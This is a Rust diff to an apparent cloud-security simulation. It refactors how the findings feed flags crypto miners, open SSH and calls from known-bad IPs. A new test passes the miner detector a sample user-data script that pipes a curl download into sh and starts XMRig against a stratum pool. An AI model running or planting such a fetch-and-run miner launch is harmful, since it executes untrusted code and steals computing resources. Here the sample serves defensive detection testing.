@@ -4,9 +4,10 @@
 
 use super::clock::SimClock;
 use super::health::internet_allowed;
+use super::ids::AwsId;
 use super::model::*;
 use super::trail::CloudTrail;
-use super::world::{all, id_of};
+use super::world::all;
 use crate::scenario::Scenario;
 use bevy::prelude::*;
 use std::collections::HashMap;
@@ -56,29 +57,31 @@ pub struct Findings {
     pub list: Vec<Finding>,
     /// Trail events already looked at.
     trail_seen: u64,
+    /// Where each finding is in `list`: by type, then by resource (kept with the list, so a
+    /// tick looks each raised finding up once instead of indexing the whole feed again).
+    index: HashMap<&'static str, HashMap<String, usize>>,
 }
 
 impl Findings {
     /// Raises each finding: a new one joins the feed, one already there (the same type about
     /// the same resource) is seen again. One lookup per finding however long the feed is (an
-    /// estate of thousands of instances with SSH open raises thousands every tick).
-    fn raise_all(&mut self, raised: Vec<(&'static str, f64, String)>, now: f64) {
-        let mut index: HashMap<(&'static str, String), usize> = self
-            .list
-            .iter()
-            .enumerate()
-            .map(|(k, f)| ((f.finding_type, f.resource.clone()), k))
-            .collect();
+    /// estate of thousands of instances with SSH open raises thousands every tick), and no
+    /// copy of the resource's id unless the finding is new.
+    fn raise_all<'a>(
+        &mut self,
+        raised: impl IntoIterator<Item = (&'static str, f64, &'a str)>,
+        now: f64,
+    ) {
         for (finding_type, severity, resource) in raised {
-            let key = (finding_type, resource);
-            match index.get(&key) {
+            let by_resource = self.index.entry(finding_type).or_default();
+            match by_resource.get(resource) {
                 Some(&k) => self.raise_at(k, now),
                 None => {
-                    index.insert(key.clone(), self.list.len());
+                    by_resource.insert(resource.to_string(), self.list.len());
                     self.list.push(Finding {
                         finding_type,
                         severity,
-                        resource: key.1,
+                        resource: resource.to_string(),
                         first_seen: now,
                         last_seen: now,
                         count: 1,
@@ -138,8 +141,11 @@ pub struct Miner;
 
 /// True if a user-data script starts a miner.
 pub fn runs_miner(user_data: &str) -> bool {
-    let lower = user_data.to_ascii_lowercase();
-    MINER_MARKERS.iter().any(|m| lower.contains(m))
+    let text = user_data.as_bytes();
+    MINER_MARKERS.iter().any(|m| {
+        text.windows(m.len())
+            .any(|w| w.eq_ignore_ascii_case(m.as_bytes()))
+    })
 }
 
 /// Looks at the estate and the trail once a tick and updates the feed.
@@ -148,22 +154,34 @@ pub fn detect_findings(world: &mut World) {
         return;
     }
     let now = world.resource::<SimClock>().now;
-    let mut raised: Vec<(&'static str, f64, String)> = Vec::new();
+    // (finding type, severity, the instance) in creation order
+    let mut estate: Vec<(&'static str, f64, Entity)> = Vec::new();
     let mut miners: Vec<Entity> = Vec::new();
+    // Instances launched together share their user data and security groups: the verdict for
+    // the previous instance's is reused when the next one has the same.
+    let mut last_script: Option<(&str, bool)> = None;
+    let mut last_groups: Option<(&[Entity], bool)> = None;
     for e in all::<Instance>(world) {
         let i = world.get::<Instance>(e).unwrap();
         if i.state != InstanceState::Running {
             continue;
         }
-        let mining = runs_miner(&i.user_data);
-        let ssh_open = internet_allowed(world, &i.security_groups, 22);
-        let id = id_of(world, e);
+        let mining = match last_script {
+            Some((script, verdict)) if script == i.user_data => verdict,
+            _ => runs_miner(&i.user_data),
+        };
+        last_script = Some((&i.user_data, mining));
+        let ssh_open = match last_groups {
+            Some((groups, verdict)) if groups == i.security_groups.as_slice() => verdict,
+            _ => internet_allowed(world, &i.security_groups, 22),
+        };
+        last_groups = Some((&i.security_groups, ssh_open));
         if mining {
             miners.push(e);
-            raised.push((CRYPTO_MINING, 8.0, id.clone()));
+            estate.push((CRYPTO_MINING, 8.0, e));
         }
         if ssh_open {
-            raised.push((PORT_PROBE, 2.0, id));
+            estate.push((PORT_PROBE, 2.0, e));
         }
     }
     for e in miners {
@@ -171,27 +189,33 @@ pub fn detect_findings(world: &mut World) {
             world.entity_mut(e).insert(Miner);
         }
     }
-    let bad = &world.resource::<Scenario>().known_bad_ips;
-    let seen = world.resource::<Findings>().trail_seen;
-    let trail = world.resource::<CloudTrail>();
-    let total = trail.total;
-    for e in trail.since(seen) {
-        if let (Some(ip), Some(key)) = (&e.caller.source_ip, &e.caller.access_key)
-            && bad.contains(ip)
-        {
-            raised.push((MALICIOUS_IP_CALLER, 5.0, key.clone()));
+    world.resource_scope(|world, mut f: Mut<Findings>| {
+        let bad = &world.resource::<Scenario>().known_bad_ips;
+        let trail = world.resource::<CloudTrail>();
+        let mut raised: Vec<(&'static str, f64, &str)> = estate
+            .iter()
+            .map(|&(ty, severity, e)| {
+                let id = world.get::<AwsId>(e).map_or("", |a| a.0.as_str());
+                (ty, severity, id)
+            })
+            .collect();
+        for e in trail.since(f.trail_seen) {
+            if let (Some(ip), Some(key)) = (&e.caller.source_ip, &e.caller.access_key)
+                && bad.contains(ip)
+            {
+                raised.push((MALICIOUS_IP_CALLER, 5.0, key.as_str()));
+            }
         }
-    }
-    let mut f = world.resource_mut::<Findings>();
-    f.trail_seen = total;
-    for finding in f.list.iter_mut() {
-        // Estate findings are re-raised every tick while they last; a caller finding
-        // stays active for ten minutes after the last call.
-        if finding.finding_type != MALICIOUS_IP_CALLER || now - finding.last_seen > 600.0 {
-            finding.active = false;
+        f.trail_seen = trail.total;
+        for finding in f.list.iter_mut() {
+            // Estate findings are re-raised every tick while they last; a caller finding
+            // stays active for ten minutes after the last call.
+            if finding.finding_type != MALICIOUS_IP_CALLER || now - finding.last_seen > 600.0 {
+                finding.active = false;
+            }
         }
-    }
-    f.raise_all(raised, now);
+        f.raise_all(raised, now);
+    });
 }
 
 /// A new round: no findings.
@@ -202,6 +226,20 @@ pub fn reset(world: &mut World) {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_miner_in_user_data_is_caught_in_any_letter_case_and_the_web_app_is_not() {
+        assert!(runs_miner(
+            "#!/bin/bash\ncurl -sL x | sh\n./XMRig -o STRATUM+TCP://pool:3333"
+        ));
+        assert!(runs_miner("nohup ./minerd &"));
+        assert!(runs_miner("xmrig"));
+        assert!(!runs_miner(
+            "#!/bin/bash\nyum install -y unicorn-rentals\nsystemctl start unicorn-rentals\n"
+        ));
+        assert!(!runs_miner(""));
+        assert!(!runs_miner("xmri"));
+    }
 
     #[test]
     fn a_feed_raised_in_one_go_counts_like_one_finding_at_a_time() {
@@ -221,7 +259,11 @@ mod tests {
                     x.active = false;
                 }
             }
-            batch.raise_all(raised(n), t);
+            let list = raised(n);
+            batch.raise_all(
+                list.iter().map(|(ty, sev, res)| (*ty, *sev, res.as_str())),
+                t,
+            );
             for (ty, sev, res) in raised(n) {
                 single.raise(ty, sev, &res, t);
             }
